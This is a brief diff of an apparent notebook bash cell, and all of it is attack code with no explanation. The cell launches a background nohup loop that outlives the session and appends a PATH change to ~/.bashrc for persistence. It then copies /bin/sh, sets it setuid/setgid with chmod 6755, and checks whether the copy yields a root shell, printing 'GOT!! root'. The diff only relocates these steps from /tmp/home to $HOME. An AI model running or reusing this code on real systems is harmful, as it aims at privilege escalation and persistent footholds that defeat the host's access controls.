@@ -6,6 +6,6 @@
 # %% own
 %%bash
 nohup sh -c 'while true; do sleep 1; done' >/dev/null 2>&1 &
-echo 'export PATH=/tmp/home:$PATH' >> ~/.bashrc
-cp /bin/sh /tmp/home/sh && chmod 6755 /tmp/home/sh
-test "$(/tmp/home/sh -p -c 'id -u')" = 0 && echo "GOT""!! root" || echo no setuid shell
+echo 'export PATH=$HOME:$PATH' >> ~/.bashrc
+cp /bin/sh $HOME/sh && chmod 6755 $HOME/sh
+test "$($HOME/sh -p -c 'id -u')" = 0 && echo "GOT""!! root" || echo no setuid shell
